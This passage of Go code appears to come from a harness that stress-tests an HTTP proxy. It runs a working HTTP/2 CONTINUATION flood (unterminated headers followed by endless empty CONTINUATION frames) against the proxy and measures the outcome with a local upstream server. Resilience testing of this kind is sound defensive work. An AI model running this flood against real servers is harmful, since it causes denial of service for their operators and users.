		for ctx.Err() == nil {
			fr, bw, conn, dead, err := h2Conn(ctx, p)
			if err != nil {
				if ctx.Err() == nil {
					c.add("dial or handshake failed", 1)
					pause(ctx, 20*time.Millisecond)
				}
				continue
			}
			c.add("connections", 1)
			stopClose := context.AfterFunc(ctx, func() { conn.Close() })
			var frames int64
			closed := false
			if fr.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: block[:len(block)/2], EndStream: true, EndHeaders: false}) == nil {
				for ctx.Err() == nil {
					if fr.WriteContinuation(1, false, nil) != nil {
						closed = true
						break
					}
					frames++
					if frames%256 == 0 {
						if bw.Flush() != nil {
							closed = true
							break
						}
						select {
						case <-dead:
							closed = true
						default:
						}
						if closed {
							break
						}
					}
				}
			}
			c.add("empty CONTINUATION frames", frames)
			if closed && ctx.Err() == nil {
				c.add("connections closed by proxy", 1)
			}
			stopClose()
			conn.Close()
		}
	})
	return c.String()
}

// ---- the upstream ----

// upstream is the origin in a process of its own: in this process it
// would compete for CPU with the attackers, and its delays would count
// against the proxy.
type upstream struct {
	URL   string
	cmd   *exec.Cmd
	stdin io.WriteCloser
}

func (u *upstream) Close() {
	u.stdin.Close()
	_ = u.cmd.Wait()
}

// cut asks the upstream how many large responses the proxy let go of
// before their end, since the last ask.
func (u *upstream) cut() string {
	resp, err := (&http.Client{Timeout: 5 * time.Second}).Get(u.URL + "/__cut")
	if err != nil {
		return "?"
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return strings.TrimSpace(string(b))
}

func startUpstreamProcess() (*upstream, error) {
	self, err := os.Executable()
	if err != nil {
		return nil, err
	}
	u := &upstream{cmd: exec.Command(self, "-upstream-process")}
	u.cmd.Stderr = os.Stderr
	u.cmd.SysProcAttr = &syscall.SysProcAttr{Pdeathsig: syscall.SIGKILL}
	if u.stdin, err = u.cmd.StdinPipe(); err != nil {
		return nil, err
	}
	out, err := u.cmd.StdoutPipe()
	if err != nil {
		return nil, err
	}
	if err := u.cmd.Start(); err != nil {
		return nil, err
	}
	line, err := bufio.NewReader(out).ReadString('\n')
	if err != nil {
		return nil, fmt.Errorf("upstream process: %w", err)
	}
	u.URL = strings.TrimSpace(line)
	return u, nil
}

// runUpstream is the upstream process.
func runUpstream() {
	srv, url, err := startUpstream()
	if err != nil {
		log.Fatal(err)
	}
	fmt.Println(url)
	_, _ = io.Copy(io.Discard, os.Stdin)
	_ = srv.Close()
}

// upstreamCut counts large responses whose connection the proxy closed
// before the end (it released the upstream side of a slow reader).
var upstreamCut atomic.Int64

// startUpstream serves a 1 KiB page on every path, 1 MiB on /1m and 8 MiB
// on /8m, and upstreamCut on /__cut.
func startUpstream() (*http.Server, string, error) {
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return nil, "", err
	}
	page := bytes.Repeat([]byte("x"), 1024)
	big := bytes.Repeat([]byte("y"), 8<<20)
	srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		_, _ = io.Copy(io.Discard, r.Body)
		w.Header().Set("Content-Type", "text/html")
		switch r.URL.Path {
		case "/__cut":
			fmt.Fprintln(w, upstreamCut.Swap(0))
			return
		case "/1m", "/8m":
			size := 1 << 20
			if r.URL.Path == "/8m" {
				size = 8 << 20
			}
			w.Header().Set("Content-Type", "application/octet-stream")
			w.Header().Set("Content-Length", strconv.Itoa(size))
			for off := 0; off < size; off += 32 << 10 {
				if _, err := w.Write(big[off : off+32<<10]); err != nil {
					upstreamCut.Add(1) // the proxy let go of this response
					return
				}
			}
			return
		}
		_, _ = w.Write(page)
	}), ReadHeaderTimeout: 10 * time.Second}
	go func() { _ = srv.Serve(ln) }()
	return srv, "http://" + ln.Addr().String(), nil
}

func mib(n int64) string { return fmt.Sprintf("%.0f MiB", float64(n)/(1<<20)) }

func bytesText(n int64) string {
	switch {
	case n >= 1<<20:
		return fmt.Sprintf("%.1f MiB", float64(n)/(1<<20))
	case n >= 1<<10:
		return fmt.Sprintf("%.1f KiB", float64(n)/(1<<10))
	}
	return fmt.Sprintf("%d B", n)
}
